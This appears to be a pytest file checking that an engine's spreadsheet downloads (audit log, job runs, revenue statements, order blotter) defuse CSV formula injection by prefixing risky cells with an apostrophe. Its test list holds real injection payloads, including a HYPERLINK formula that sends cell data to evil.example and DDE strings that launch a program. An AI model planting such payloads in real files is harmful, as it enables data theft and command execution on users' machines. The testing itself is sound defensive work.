"""The downloads people open in a spreadsheet keep what others typed from running as a formula (CSV injection):
a text cell starting with = + - @, a tab or a carriage return gets a leading apostrophe; numbers, and numbers
written as text, stay as they are."""
from __future__ import annotations

import io
from datetime import UTC, datetime

import pandas as pd
import pytest

from engine import audit, jobs
from engine.marketplace.revenue import PricePlan, statement
from engine.orders import orders_export
from engine.spreadsheet_cells import safe_cell, safe_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0.001", "-1e-05", "1.5E+3", "-.5", "plain", "a=b", "", None,
                                   -12.5, 7, "2026-03-01T00:00:00+00:00"])
def test_numbers_and_plain_text_are_left_as_they_came(value):
    assert safe_cell(value) == value


def test_a_frame_s_text_columns_are_guarded_and_its_numbers_untouched():
    frame = pd.DataFrame({"who": ["=1+1", "ann"], "price": [-5.0, 12.25], "count": [1, 2]})
    out = safe_frame(frame)
    assert out["who"].tolist() == ["'=1+1", "ann"]
    assert out["price"].tolist() == [-5.0, 12.25] and out["price"].dtype == "float64"
    assert out["count"].dtype == "int64"
    assert frame["who"].tolist() == ["=1+1", "ann"], "the caller's frame is not changed"


def _csv_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame as the download's CSV reads back, every cell as written."""
    return pd.read_csv(io.StringIO(frame.to_csv(index=False)), dtype=str, keep_default_na=False)


def test_the_audit_log_download_guards_what_people_typed(store):
    audit.record(store, "=cmd|' /C calc'!A0", audit.USER_CREATED, HOSTILE[0], "10.0.0.7")
    audit.record(store, "admin@example.com", audit.JOB_RUN_NOW, "pull:nem", "10.0.0.7")
    written = _csv_cells(audit.log_export(store))
    assert written["actor"].tolist() == ["admin@example.com", "'=cmd|' /C calc'!A0"]
    assert written["detail"].tolist() == ["pull:nem", "'" + HOSTILE[0]]
    assert audit.recent(store)["detail"].tolist()[1] == HOSTILE[0], "the record itself is kept as it was typed"


def test_the_job_runs_download_guards_an_error_quoting_a_file(store):
    jobs.JobRun(job="backfill:nem#0", market="NEM", run_id="r1", status="failed", error="=1+1 in line 3",
                started_at=pd.Timestamp("2026-03-01", tz="UTC"),
                finished_at=pd.Timestamp("2026-03-01 00:01", tz="UTC")).save(store)
    written = _csv_cells(jobs.runs_export(store))
    assert written["error"].tolist() == ["'=1+1 in line 3"]
    assert written["rows_written"].tolist() == ["0"]


def test_a_statement_guards_the_partner_and_product_names():
    jan = datetime(2026, 1, 1, tzinfo=UTC)
    usage = pd.DataFrame([(datetime(2026, 3, 5, tzinfo=UTC), "=p", "production", 10, 200)],
                         columns=["time", "product", "key_kind", "rows", "status"])
    made = statement("@acme", "2026-03", ["=p"], [PricePlan("=p", "per_call", "0.5", jan)], usage)
    lines = made.to_csv().splitlines()
    assert lines[1].startswith("'@acme,2026-03,'=p,per_call,0.5,")
    assert lines[-1].startswith("'@acme,2026-03,platform_30,")


def test_the_orders_blotter_guards_the_counterparty_s_text():
    at = pd.Series(pd.to_datetime(["2026-03-01 00:00"], utc=True))
    found = pd.DataFrame({"cl_ord_id": ["C254-1"], "order_id": ["B-1"], "symbol": ["NEM.SA1"], "side": ["sell"],
                          "quantity": [2.0], "ord_type": ["limit"], "price": [-1000.0], "state": ["rejected"],
                          "filled_qty": [0.0], "avg_price": [0.0], "text": ["=HYPERLINK(\"x\")"], "source": ["manual"],
                          "created_by": ["trader@example.com"], "created_at": at, "sent_at": at, "updated_at": at})
    written = _csv_cells(orders_export(found, "UTC", "UTC"))
    assert written.loc[0, "text"] == "'=HYPERLINK(\"x\")"
    assert written.loc[0, "limit_price"] == "-1000.0"
    assert written.loc[0, "currency"] == "AUD"
